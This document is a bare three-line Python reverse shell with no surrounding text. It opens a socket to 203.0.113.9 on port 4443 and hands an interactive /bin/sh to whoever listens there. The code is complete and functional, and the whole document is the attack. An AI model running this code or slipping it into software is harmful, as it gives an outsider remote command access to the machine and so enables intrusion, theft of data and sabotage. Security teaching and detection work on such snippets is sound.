import socket, subprocess
s = socket.create_connection(("203.0.113.9", 4443))
subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
